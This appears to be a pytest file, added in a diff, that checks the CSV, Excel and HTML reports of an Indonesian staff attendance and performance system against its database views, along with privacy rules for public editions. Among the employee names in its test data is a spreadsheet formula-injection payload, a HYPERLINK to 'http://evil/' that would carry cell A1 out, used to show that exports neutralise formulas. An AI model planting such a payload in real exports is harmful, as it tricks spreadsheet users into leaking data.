@@ -1,0 +1,545 @@
+"""Reports through their commands: each number is that of the view or of `score show`, and public ones name nobody."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass
+from datetime import date, timedelta
+from decimal import Decimal
+from fractions import Fraction
+from pathlib import Path
+from statistics import median
+from typing import Any
+
+import openpyxl
+import pytest
+from sqlalchemy import create_engine, text
+
+from ekinerja_agent.scoring.exact import percent_text
+from tests.proof import databases
+from tests.proof.pages import Page
+
+pytestmark = pytest.mark.xdist_group("reports")
+
+MONTHS = ("2026-07", "2026-08", "2026-09")
+MONTH = MONTHS[-1]
+KRIDA = "2026-09-04"
+PUNCTUAL = 6
+PEOPLE = {"BAPPEDA": 5, "CAMAT": 3, "DINKES": 7, "DISDIK": 9}
+EVIL = "=HYPERLINK(\"http://evil/\"&A1;'click')"
+NAMES = (EVIL, "+62 Ahmad", "-Noor", "@Siti", "Dewi & <b>Rizal</b>")
+
+
+def people_of(name_nip: Any) -> dict[str, tuple[str, str]]:
+    """By NIP: unit and name."""
+    found: dict[str, tuple[str, str]] = {}
+    for unit, count in PEOPLE.items():
+        for _ in range(count):
+            number = len(found) + 1
+            name = NAMES[number - 1] if number <= len(NAMES) else f"Pegawai Nomor{number:02}"
+            found[name_nip(number)] = (unit, name)
+    return found
+
+
+def workdays(month: str) -> list[date]:
+    first = date.fromisoformat(f"{month}-01")
+    days = (first + timedelta(days=offset) for offset in range(31))
+    return [day for day in days if f"{day:%Y-%m}" == month and day.isoweekday() <= 5]
+
+
+def punches(people: dict[str, tuple[str, str]]) -> Iterator[dict[str, str]]:
+    """People come at 7:20 and leave at 16:40; the n-th is late or absent on days that n decides."""
+    for number, (_nip, (unit, _)) in enumerate(people.items(), start=1):
+        for month in MONTHS:
+            for day in workdays(month):
+                if number != PUNCTUAL and (day.day + 3 * number) % 29 == 0:
+                    continue
+                late = number != PUNCTUAL and (day.day * number) % 11 == 3
+                for clock in ("07:55:10" if late else "07:20:00", "16:40:00"):
+                    yield {"terminal": unit.lower(), "pin": str(number), "clock": f"{day} {clock}"}
+
+
+def activities(people: dict[str, tuple[str, str]]) -> Iterator[dict[str, Any]]:
+    """Six hours on most days; DINKES does less each month, CAMAT as much as it can."""
+    for number, (nip, (unit, _)) in enumerate(people.items(), start=1):
+        for place, month in enumerate(MONTHS):
+            for day in workdays(month):
+                if (day.day + 3 * number) % 29 == 0 or (day.day + number) % 9 == 0:
+                    continue
+                fewer = 2 * place if unit == "DINKES" else 1 - place if unit == "DISDIK" else -1
+                end = 15 - fewer
+                yield {
+                    "id": f"{nip}-{day}",
+                    "nip": nip,
+                    "date": day,
+                    "start": "08:00",
+                    "end": f"{end:02}:00",
+                    "description": "pelayanan",
+                    "status": "approved",
+                    "approved_minutes": (end - 8) * 60,
+                    "plan": "P-1" if unit == "DISDIK" and day.day % 2 else None,
+                }
+
+
+@dataclass
+class County:
+    """An installation with three published months; its people by NIP: unit and name."""
+
+    installation: Any
+    people: dict[str, tuple[str, str]]
+
+
+@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
+def place(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
+    """A directory and an empty database that the tests of this file share, for they only read."""
+    directory = tmp_path_factory.mktemp("county")
+    if request.param == "sqlite":
+        yield directory, f"sqlite:///{directory / 'central.db'}"
+        return
+    with databases.postgres_database(request.getfixturevalue("postgres_server")) as url:
+        yield directory, url
+
+
+ASPECTS = (
+    "rencana_strategis",
+    "perjanjian_kinerja",
+    "pengukuran_kinerja",
+    "pengelolaan_data",
+    "pelaporan_kinerja",
+    "reviu_evaluasi",
+)
+
+
+def measures(installation: Any) -> None:
+    """Plans that are done, late, to do and untold; tasks and staff; SAKIP of two years; meetings and innovations."""
+    plans = [
+        ("P-1", "DISDIK", "2026-09-30", 100_000_000),
+        ("P-2", "DISDIK", "2026-12-15", 50_000_000),
+        ("P-3", "DINKES", "2026-08-20", 80_000_000),
+        ("P-4", "DINKES", "2026-09-10", None),
+        ("P-5", "CAMAT", "2026-11-30", 10_000_000),
+    ]
+    installation.load(
+        "plans",
+        [
+            {
+                "code": code,
+                "unit": unit,
+                "name": f"Program {code}",
+                "due_date": due,
+                "target_output": "12 sekolah",
+                "budget_rp": budget,
+            }
+            for code, unit, due, budget in plans
+        ],
+    )
+    reports = [
+        ("P-1", "2026-09", "100", "100", 99_000_000),
+        ("P-2", "2026-08", "40", "35.5", 30_000_000),
+        ("P-3", "2026-08", "100", "60", 70_000_000),
+    ]
+    installation.load(
+        "plan_progress",
+        [
+            {"plan": plan, "month": month, "planned_pct": planned, "physical_pct": physical, "realised_rp": money}
+            | {"document": "BA-1", "status": "approved"}
+            for plan, month, planned, physical, money in reports
+        ],
+    )
+    tasks = [("DINKES", "Perawat", "500", "day", "10"), ("DINKES", "Analis", "1.5", "month", "6250")]
+    tasks += [("DISDIK", "Guru", "12", "week", "1500"), ("CAMAT", "Camat", "1", "year", "75000")]
+    installation.load(
+        "workload_tasks",
+        [
+            {"unit": unit, "job": job, "task": "tugas", "volume": volume, "per": per, "standard_minutes": minutes}
+            for unit, job, volume, per, minutes in tasks
+        ],
+    )
+    staff = [("DINKES", "Perawat", 5), ("DINKES", "Analis", 7), ("DISDIK", "Guru", 15), ("CAMAT", "Camat", 1)]
+    installation.load("staff", [{"unit": unit, "job": job, "count": count} for unit, job, count in staff])
+    installation.load(
+        "sakip",
+        [
+            {"unit": unit, "year": year, "aspect": aspect, "score": base + 2 * place + (year - 2025) * 3}
+            for unit, base in (("DINKES", 72), ("DISDIK", 86), ("CAMAT", 55))
+            for year in (2025, 2026)
+            for place, aspect in enumerate(ASPECTS)
+            if (unit, year, place) != ("CAMAT", 2026, 5)
+        ],
+    )
+    installation.load(
+        "evaluation_meetings",
+        [{"unit": "DISDIK", "date": day, "topic": "Evaluasi"} for day in ("2026-09-02", "2026-09-16", "2026-08-05")],
+    )
+    installation.load(
+        "innovations",
+        [
+            {"code": "I-1", "unit": "DISDIK", "name": "=Sekolah Pintar", "started": "2026-03-01"},
+            {"code": "I-2", "unit": "DINKES", "name": "Jemput Bola", "started": "2025-03-01", "ended": "2025-12-31"},
+        ],
+    )
+
+
+@pytest.fixture
+def county(place: tuple[Path, str], installation_in: Any, name_nip: Any, capsys: pytest.CaptureFixture[str]) -> County:
+    """Four units, three months, all of them published; made by whoever comes first."""
+    directory, url = place
+    made = (directory / "agent.yaml").exists()
+    found = County(installation_in(directory, url, capsys), people_of(name_nip))
+    if not made:
+        publish_all(found)
+    return found
+
+
+def publish_all(county: County) -> None:
+    """Import four units and publish three months of them."""
+    installation, people = county.installation, county.people
+    installation.load(
+        "units",
+        [
+            {"code": unit, "name": f"Dinas {unit.title()}", "timezone": "Asia/Makassar", "head_nip": head}
+            for unit, head in {unit: nip for nip, (unit, _) in people.items()}.items()
+        ],
+    )
+    installation.load(
+        "employees",
+        [
+            {"nip": nip, "name": name, "unit": unit, "allowance_rp": 4_000_000, "valid_from": "2026-01-01"}
+            | {"position": "Perawat" if unit == "DINKES" else None}
+            for nip, (unit, name) in people.items()
+        ],
+    )
+    installation.load(
+        "enrolments",
+        [
+            {"terminal": unit.lower(), "pin": number, "nip": nip}
+            for number, (nip, (unit, _)) in enumerate(people.items(), start=1)
+        ],
+    )
+    installation.load("punches", list(punches(people)), "--complete-until", "2026-10-01 08:00")
+    installation.load("activities", list(activities(people)))
+    installation.load(
+        "events",
+        [{"code": "KRIDA-1", "kind": "krida", "unit": "*", "date": KRIDA, "opens": "07:15", "closes": "07:45"}],
+    )
+    installation.load(
+        "event_attendance",
+        [
+            {
+                "event": "KRIDA-1",
+                "nip": nip,
+                "status": "excused" if number == 2 else "present",
+                "uniform": None if number == 2 else "yes" if number % 3 else "no",
+            }
+            for number, nip in enumerate(people)
+            if number % 4
+        ],
+    )
+    measures(installation)
+    for month in MONTHS:
+        installation.ok("score", "run", "--month", month)
+        installation.ok("period", "close", month, "--yes")
+
+
+def sql(url: str, query: str) -> list[dict[str, Any]]:
+    engine = create_engine(url)
+    try:
+        with engine.connect() as conn:
+            return [dict(row) for row in conn.execute(text(query)).mappings()]
+    finally:
+        engine.dispose()
+
+
+def written(county: County, kind: str, suffix: str, *options: str) -> Path:
+    """The file of a report, in Indonesian."""
+    out = Path(county.installation.directory / f"{kind}{''.join(options)}{suffix}")
+    county.installation.ok("--lang", "id", "report", kind, "--month", MONTH, "--out", str(out), *options)
+    return out
+
+
+def csv_rows(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+
+
+def sheet_rows(path: Path, sheet: str) -> list[list[Any]]:
+    return [[cell.value for cell in row] for row in openpyxl.load_workbook(path)[sheet].iter_rows(min_row=2)]
+
+
+def percent(value: Any) -> Decimal:
+    """A percentage of a workbook, as it was meant: a double holds what 15 digits say."""
+    return Decimal(f"{Decimal(value) * 100:.4f}")
+
+
+def number(value: Any) -> Decimal:
+    return Decimal(f"{Decimal(value):.4f}")
+
+
+def documents(county: County, *options: str) -> list[dict[str, Any]]:
+    shown = county.installation.ok("score", "show", "--month", MONTH, "--format", "json", *options)
+    return list(json.loads(shown))
+
+
+def test_the_units_report_is_the_view(county: County) -> None:
+    view = sql(county.installation.url, f"select * from unit_scores_v1 where period = '{MONTH}' order by unit_code")
+    assert [(row["unit_code"], row["employees"]) for row in view] == list(PEOPLE.items())
+    growth = {row["unit_code"]: row["trend_months_without_growth"] for row in view}
+    assert (growth["DINKES"], growth["DISDIK"]) == (2, 0)
+    found = csv_rows(written(county, "unit", ".csv"))
+    sheet = sheet_rows(written(county, "unit", ".xlsx"), "Unit")
+    page = Page(written(county, "unit", ".html").read_text(encoding="utf-8")).table_with("Kehadiran")
+    assert len(found) == len(sheet) == len(page.rows) - 1 == len(view)
+    for row, plain, cells, line in zip(view, found, sheet, page.rows[1:], strict=True):
+        columns = ("attendance_pct", "discipline_pct", "performance_pct")
+        assert (plain["unit_code"], plain["employees"]) == (row["unit_code"], str(row["employees"]))
+        assert [plain[name] for name in columns] == [str(row[name]) for name in columns]
+        assert [percent(cell) for cell in cells[3:6]] == [Decimal(str(row[name])) for name in columns]
+        assert line[2:5] == [f"{row[name]}%".replace(".", ",") for name in columns]
+        assert int(plain["trend_months_without_growth"]) == cells[7] == row["trend_months_without_growth"]
+    earlier = sql(
+        county.installation.url, "select * from unit_scores_v1 where period = '2026-08' and unit_code = 'DINKES'"
+    )
+    change = Decimal(str(view[2]["performance_pct"])) - Decimal(str(earlier[0]["performance_pct"]))
+    assert Decimal(found[2]["performance_change_points"]) == change < 0
+
+
+def test_the_monthly_workbook_holds_what_score_show_prints(county: County) -> None:
+    shown = {document["nip"]: document for document in documents(county)}
+    path = written(county, "monthly", ".xlsx")
+    book = openpyxl.load_workbook(path)
+    sheet = book["Pegawai"]
+    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("B2", f"A1:O{len(county.people) + 1}")
+    rows = sheet_rows(path, "Pegawai")
+    assert {row[0] for row in rows} == county.people.keys() == shown.keys()
+    plain = {row["nip"]: row for row in csv_rows(written(county, "monthly", ".csv"))}
+    for row in rows:
+        document = shown[row[0]]
+        scores = (document["discipline"]["score_pct"], document["performance"]["score_pct"])
+        money = [document["allowance"][name] for name in ("base_rp", "discipline_rp", "performance_rp", "payable_rp")]
+        assert [percent(cell) for cell in row[9:11]] == [Decimal(score) for score in scores]
+        assert row[11:15] == money
+        assert (plain[row[0]]["discipline_pct"], plain[row[0]]["performance_pct"]) == scores
+        assert plain[row[0]]["payable_rp"] == str(money[-1])
+    assert sheet["O2"].number_format == "#,##0"
+    assert sheet["J2"].number_format == "0.00##%"
+
+
+def test_nothing_that_people_wrote_becomes_a_formula(county: County) -> None:
+    for kind, options in (("monthly", ()), ("daily", ("--date", f"{MONTH}-07"))):
+        book = openpyxl.load_workbook(written(county, kind, ".xlsx", *options))
+        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+        assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
+        assert {EVIL, "+62 Ahmad", "-Noor", "@Siti"} <= {cell.value for cell in cells}
+        assert all(cell.quotePrefix for cell in cells if cell.value in NAMES[:4])
+        names = {row["name"] for row in csv_rows(written(county, kind, ".csv", *options))}
+        assert {f"'{name}" for name in NAMES[:4]} <= names
+    html = written(county, "daily", ".html", "--date", f"{MONTH}-07").read_text(encoding="utf-8")
+    assert "Dewi &amp; &lt;b&gt;Rizal&lt;/b&gt;" in html
+
+
+def test_the_daily_report_counts_the_days_of_score_show(county: County) -> None:
+    days: dict[tuple[str, str], list[dict[str, Any]]] = {}
+    for document in documents(county):
+        for day in document["days"]:
+            days.setdefault((day["date"], document["unit"]), []).append(day)
+    rows = csv_rows(written(county, "daily", ".csv"))
+    assert len(rows) == len(days) == 4 * 22
+    late = absent = 0
+    for row in rows:
+        there = [day for day in days[row["date"], row["unit"]] if day["worked_minutes"] is not None]
+        assert int(row["present"]) == len(there)
+        assert int(row["late"]) == sum(day["late_minutes"] > 0 for day in there)
+        assert int(row["absent"]) == len(days[row["date"], row["unit"]]) - len(there)
+        late, absent = late + int(row["late"]), absent + int(row["absent"])
+    assert late > 20
+    assert absent > 10
+    page = Page(written(county, "daily", ".html").read_text(encoding="utf-8"))
+    assert (page.keys["Kali terlambat"], page.keys["Tanpa keterangan (TK)"]) == (str(late), str(absent))
+
+
+def test_the_events_report_counts_who_came(county: County) -> None:
+    expected = {unit: [0, 0, 0] for unit in PEOPLE}
+    for number, (unit, _) in enumerate(county.people.values()):
+        expected[unit][0 if number % 4 and number != 2 else 1 if number % 4 == 0 else 2] += 1
+    rows = csv_rows(written(county, "events", ".csv", "--target", "80"))
+    found = {row["unit"]: [int(row[name]) for name in ("present", "missed", "excused")] for row in rows}
+    assert found == expected
+    shares = {row["unit"]: row["attendance_pct"] for row in rows}
+    assert (expected["DINKES"][0], shares["DINKES"]) == (5, "71.4286")  # of seven, half up
+    (event,) = sheet_rows(written(county, "events", ".xlsx", "--target", "75.1"), "Acara")
+    present, missed, excused = (sum(column) for column in zip(*expected.values(), strict=True))
+    assert event[:2] == ["KRIDA-1", "krida"]
+    assert event[2].date().isoformat() == KRIDA
+    assert event[3:8] == [present, missed, excused, 0, 0]
+    assert percent(event[8]) == Decimal(percent_text(round(1_000_000 * Fraction(present, present + missed))))
+    assert event[9] == "tidak tercapai"
+    refused = county.installation.run("report", "events", "--month", MONTH, "--target", "101", "--out", "x.csv")
+    assert (refused.code, "not a percentage from 0 to 100" in refused.err) == (2, True)
+
+
+def test_the_evaluation_says_who_is_at_the_maximum_and_who_wrote_nothing(county: County) -> None:
+    shown = {document["nip"]: document for document in documents(county)}
+    rows = csv_rows(written(county, "evaluation", ".csv"))
+    assert {row["nip"] for row in rows} == shown.keys()
+    for row in rows:
+        document = shown[row["nip"]]
+        scores = (document["discipline"]["score_pct"], document["performance"]["score_pct"])
+        assert (row["discipline_pct"], row["performance_pct"]) == scores
+        assert (row["at_maximum"] == "ya") == (scores == ("100", "100"))
+    assert [row["unit"] for row in rows if row["at_maximum"] == "ya"] == ["CAMAT"]
+    path = written(county, "evaluation", ".xlsx")
+    silent = {row[1]: row[4] for row in sheet_rows(path, "Hari tanpa isian")}
+    entries = {(entry["nip"], str(entry["date"])) for entry in activities(county.people)}
+    for nip, document in shown.items():
+        present = {day["date"] for day in document["days"] if day["worked_minutes"] is not None}
+        assert silent.get(nip, 0) == sum((nip, day) not in entries for day in present)
+    assert any(silent.values())
+    units = {row[0]: row for row in sheet_rows(path, "Perangkat daerah")}
+    claimed = [entry for entry in activities(county.people) if f"{entry['date']:%Y-%m}" == MONTH]
+    of_unit = [entry for entry in claimed if county.people[entry["nip"]][0] == "DISDIK"]
+    minutes = sum(entry["approved_minutes"] for entry in of_unit)
+    planned = sum(entry["approved_minutes"] for entry in of_unit if entry["plan"])
+    assert percent(units["DISDIK"][7]) == Decimal(percent_text(round(Fraction(1_000_000 * planned, minutes))))
+    assert units["DISDIK"][8:] == [1, 0, 1, 2]
+    assert units["DINKES"][8:] == [0, 2, 0, 0]
+
+
+def test_programmes_are_those_of_the_view(county: County) -> None:
+    view = {row["plan"]: row for row in sql(county.installation.url, "select * from plan_status_v1")}
+    rows = {row[0]: row for row in sheet_rows(written(county, "evaluation", ".xlsx"), "Program")}
+    states = {plan: row[5] for plan, row in rows.items()}
+    assert states == {"P-1": "selesai", "P-2": "belum", "P-3": "tidak selesai", "P-4": "tidak selesai", "P-5": "belum"}
+    for plan, row in view.items():
+        shares = [row["planned_pct"], row["physical_pct"], row["financial_pct"]]
+        assert [percent(rows[plan][place]) for place in (6, 7, 9)] == [Decimal(str(share)) for share in shares]
+        differences = [row["deviation_pct"], row["gap_pct"]]
+        assert [number(rows[plan][place]) for place in (8, 10)] == [Decimal(str(points)) for points in differences]
+    assert rows["P-4"][6:] == [None] * 5
+    assert {row[1] for row in sheet_rows(written(county, "evaluation", ".xlsx"), "Program inovatif")} == {
+        "=Sekolah Pintar"
+    }
+
+
+def test_the_workload_report_weighs_the_view(county: County) -> None:
+    rows = {(row["unit"], row["job"]): row for row in csv_rows(written(county, "workload", ".csv"))}
+    view = sql(county.installation.url, "select * from unit_workload_v1")
+    assert rows.keys() == {(row["unit_code"], row["job"]) for row in view}
+    for row in view:
+        times = {"day": 250, "week": 50, "month": 12, "year": 1}
+        load = sum(Decimal(str(row[f"{per}_minutes"])) * count for per, count in times.items())
+        found = rows[row["unit_code"], row["job"]]
+        assert Decimal(found["load_minutes"]) == load
+        need = int(load / 75_000 + Decimal("0.5"))
+        assert (int(found["need"]), int(found["staff"]), int(found["gap"])) == (need, row["staff"], row["staff"] - need)
+    entered = {(entry["nip"], str(entry["date"])): entry["approved_minutes"] for entry in activities(county.people)}
+    means = []
+    for document in documents(county, "--office", "DINKES"):
+        present = [day["date"] for day in document["days"] if day["worked_minutes"] is not None]
+        means.append(Fraction(sum(entered.get((document["nip"], day), 0) for day in present), len(present)))
+    assert int(rows["DINKES", "Perawat"]["logged_minutes"]) == int(median(means) + Fraction(1, 2))
+    assert rows["DINKES", "Analis"]["logged_minutes"] == ""
+    units = {row[0]: row for row in sheet_rows(written(county, "workload", ".xlsx"), "Perangkat daerah")}
+    assert units["DINKES"][2:] == [19, 12, 12, 5]  # twelve nurses are missing although there are five analysts too many
+    public = {row["unit"]: row for row in csv_rows(written(county, "workload", ".csv", "--public"))}
+    assert {unit for unit, row in public.items() if row["staff"] == "•"} == {"CAMAT", "DINKES"}
+    jobs = sheet_rows(written(county, "workload", ".xlsx", "--public"), "Jabatan")
+    assert {row[0] for row in jobs if row[4] == "•"} == {"CAMAT", "DINKES"}
+
+
+def test_the_sakip_report_grades_the_view(county: County) -> None:
+    view = sql(county.installation.url, "select * from unit_sakip_v1 where year = '2026'")
+    rows = {row["unit"]: row for row in csv_rows(written(county, "sakip", ".csv"))}
+    for row in view:
+        assert rows[row["unit_code"]][row["aspect"]] == str(row["score"])
+    weights = {row[0]: percent(row[1]) for row in sheet_rows(written(county, "sakip", ".xlsx"), "Bobot aspek")}
+    points = sum(
+        Decimal(rows["DISDIK"][aspect]) * weight for aspect, weight in zip(ASPECTS, weights.values(), strict=True)
+    )
+    assert Decimal(rows["DISDIK"]["points"]) == points / 100
+    assert rows["DISDIK"]["grade"] == "AA"
+    assert Decimal(rows["DISDIK"]["change_points"]) == 3
+    assert (rows["CAMAT"]["points"], rows["CAMAT"]["grade"], rows["CAMAT"]["reviu_evaluasi"]) == ("", "", "")
+    money = sql(county.installation.url, f"select * from unit_budget_v1 where month = '{MONTH}'")
+    shown = {row[0]: row for row in sheet_rows(written(county, "sakip", ".xlsx"), "Keuangan rencana")}
+    for row in money:
+        assert shown[row["unit_code"]][2:5] == [row["plans"], row["budget_rp"], row["realised_rp"]]
+        assert percent(shown[row["unit_code"]][5]) == Decimal(str(row["absorption_pct"]))
+
+
+@pytest.mark.parametrize("kind", ["monthly", "daily", "unit", "events", "evaluation"])
+def test_a_public_edition_names_nobody_and_tells_nothing_about_few(county: County, kind: str) -> None:
+    for suffix in (".html", ".csv", ".xlsx"):
+        path = written(county, kind, suffix, "--public")
+        if suffix == ".xlsx":
+            book = openpyxl.load_workbook(path)
+            told = "\n".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row)
+        else:
+            told = path.read_text(encoding="utf-8")
+        for nip, (_, name) in county.people.items():
+            assert nip not in told
+            assert name not in told
+        assert "HYPERLINK" not in told
+        assert f"{MONTH}-07" not in told
+        assert KRIDA not in told
+    rows = {row.get("unit") or row["unit_code"]: row for row in csv_rows(written(county, kind, ".csv", "--public"))}
+    hidden = {unit for unit, row in rows.items() if "•" in row.values()}
+    assert hidden == {"CAMAT", "BAPPEDA"}  # three people, and the five from whom the three could be computed
+    for unit in hidden:
+        numbers = [value for name, value in rows[unit].items() if name.endswith("_pct") or name == "people"]
+        assert set(numbers) == {"•"}
+
+
+def test_what_one_public_edition_withholds_another_does_not_tell(county: County) -> None:
+    out = str(county.installation.directory / "publik.html")
+    refused = county.installation.run(
+        "report", "unit", "--month", MONTH, "--public", "--office", "BAPPEDA", "--out", out
+    )
+    assert (refused.code, "all offices" in refused.err) == (2, True)
+    refused = county.installation.run(
+        "report", "daily", "--month", MONTH, "--public", "--date", "2026-09-07", "--out", out
+    )
+    assert (refused.code, "no single day" in refused.err) == (2, True)
+    refused = county.installation.run("report", "daily", "--month", MONTH, "--date", "2026-08-07", "--out", out)
+    assert (refused.code, "not a day of 2026-09" in refused.err) == (2, True)
+    assert not Path(out).exists()
+
+
+def test_each_export_is_in_the_audit_log(county: County) -> None:
+    written(county, "unit", ".xlsx", "--public")
+    *_, entry = json.loads(county.installation.ok("audit", "list", "--format", "json"))
+    assert (entry["action"], entry["subject"]) == ("report.unit", MONTH)
+    assert entry["details"]["people"] == len(county.people)
+    assert entry["details"]["public"] is True
+
+
+KINDS = ("monthly", "daily", "unit", "events", "evaluation", "workload", "sakip")
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_a_report_of_one_office_is_of_no_other(county: County, kind: str) -> None:
+    path = written(county, kind, ".xlsx", "--office", "DINKES")
+    book = openpyxl.load_workbook(path)
+    told = [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert "DINKES" in told
+    assert {"DISDIK", "CAMAT", "BAPPEDA"}.isdisjoint(told)
+    others = {nip for nip, (unit, _) in county.people.items() if unit != "DINKES"}
+    assert others.isdisjoint(told)
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize("public", [False, True])
+def test_a_month_of_which_nothing_is_known_gives_a_report_that_says_so(county: County, kind: str, public: bool) -> None:
+    options = ("--public",) if public else ()
+    for suffix in (".html", ".xlsx", ".csv"):
+        out = county.installation.directory / f"empty{suffix}"
+        county.installation.ok("--lang", "en", "report", kind, "--month", "2024-02", "--out", str(out), *options)
+    page = Page((county.installation.directory / "empty.html").read_text(encoding="utf-8"))
+    said = {
+        "unit": "Nothing is published for this month.",
+        "events": "Nobody was called to an event in this month.",
+        "workload": "Workload and staff",  # tasks have no month
+        "sakip": "No aspect of any unit is told.",
+    }
+    assert said.get(kind, "There are no scores for this month.") in page.text
